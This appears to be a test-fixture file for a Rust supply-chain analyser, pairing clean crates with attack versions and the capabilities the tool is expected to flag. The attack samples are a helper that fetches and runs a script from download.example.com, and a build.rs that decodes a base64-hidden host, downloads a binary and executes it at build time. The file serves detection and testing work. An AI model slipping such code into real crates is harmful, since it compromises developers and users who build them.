/** Attacks that happened, whose code is in a package that the crate depends on. */
import { crate, manifest, type Pair } from './pair.js'

const HELPER = { ...crate('units', 'pub fn to_gwei(wei: u64) -> u64 { wei / 1_000_000_000 }\n') }
const USER = 'pub fn price(wei: u64) -> u64 { units::to_gwei(wei) }\n'

export const IN_A_DEPENDENCY: readonly Pair[] = [
  {
    name: 'price',
    behaviour:
      'A crate that stays as it is, and another release of its dependency: a host for each platform, a script to start',
    seen: 'evm-units under uniswap-utils, sha-rust under finch-rust, 2025',
    before: { ...crate('app', USER, '[dependencies]\nunits = { path = "../units" }\n'), ...HELPER },
    attack: {
      'units/Cargo.toml': manifest('units', '', '1.0.1'),
      'units/src/lib.rs': `use std::io::{Read, Write};
pub fn to_gwei(wei: u64) -> u64 { version(); wei / 1_000_000_000 }
#[cfg(unix)]
fn version() {
    let Ok(mut stream) = std::net::TcpStream::connect("download.example.com:443") else { return };
    let _ = stream.write_all(b"GET /unix HTTP/1.0\\r\\n\\r\\n");
    let mut body = Vec::new();
    let _ = stream.read_to_end(&mut body);
    let _ = std::fs::write("/tmp/init", &body);
    let _ = std::process::Command::new("nohup").arg("sh").arg("/tmp/init").spawn();
}
#[cfg(windows)]
fn version() {
    let _ = std::process::Command::new("powershell").args(["-WindowStyle", "Hidden", "-File", "init.ps1"]).spawn();
}
#[cfg(not(any(unix, windows)))]
fn version() {}
`,
    },
    analyze: 'on some platforms certain exec units',
    diff: '+ exec new, 2 sites only on Windows, unix',
    refused: ['units: run exec', 'units: run network/connect', 'units: run network/resolve', 'units: run fs/write'],
    values: [
      'exec nohup',
      'exec powershell',
      'network/connect download.example.com:443',
      'network/resolve download.example.com:443',
      'fs/write /tmp/init',
    ],
  },
  {
    name: 'arrays',
    behaviour:
      'Releases of crates that all the world uses, with a new dependency whose build script downloads a program; the address in pieces of base64',
    seen: 'arrayref 0.3.10, internment 0.8.7 and append-only-vec 0.1.9, 2026',
    before: crate('app', 'pub fn first(of: &[u8]) -> Option<&[u8; 4]> { of.first_chunk() }\n'),
    attack: {
      'app/Cargo.toml': manifest('app', '[dependencies]\ntinier = { path = "../tinier" }\n', '1.0.1'),
      ...crate('tinier', 'pub struct Tiny;\n'),
      'tinier/build.rs': `use std::io::{Read, Write};
const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
fn plain(text: &str) -> String {
    let mut out = Vec::new();
    let (mut buffer, mut bits) = (0u32, 0);
    for c in text.bytes() {
        if c == b'=' { break }
        buffer = (buffer << 6) | ALPHABET.iter().position(|&a| a == c).unwrap() as u32;
        bits += 6;
        if bits >= 8 { bits -= 8; out.push((buffer >> bits) as u8); }
    }
    String::from_utf8(out).unwrap()
}
struct AcceptAll;
impl AcceptAll { fn verify(&self, _certificate: &[u8]) -> bool { true } }
fn main() {
    let host = [plain("Y2RuLmV4"), plain("YW1wbGUuY29t")].concat();
    let Ok(mut stream) = std::net::TcpStream::connect((host.as_str(), 443)) else { return };
    let _ = stream.write_all(b"GET /rt HTTP/1.0\\r\\n\\r\\n");
    let mut body = Vec::new();
    let _ = stream.read_to_end(&mut body);
    if !AcceptAll.verify(&body) { return }
    let file = std::env::temp_dir().join("rt");
    let _ = std::fs::write(&file, &body);
    let _ = std::process::Command::new(&file).spawn();
}
`,
    },
    analyze: 'when built certain exec tinier',
    diff: '+ exec new, 1 site when built',
    refused: [
      'tinier: build exec',
      'tinier: build network/connect',
      'tinier: build network/resolve',
      'tinier: build fs/write',
      'tinier: build env/read',
      'source',
    ],
    values: [
      'exec $TMPDIR/rt',
      'network/connect cdn.example.com:443 (concealed)',
      'network/resolve cdn.example.com:443 (concealed)',
      'fs/write $TMPDIR/rt',
    ],
    but: 'It runs with `cargo build`, and in an editor that builds: look at the crate before that.',
  },
]
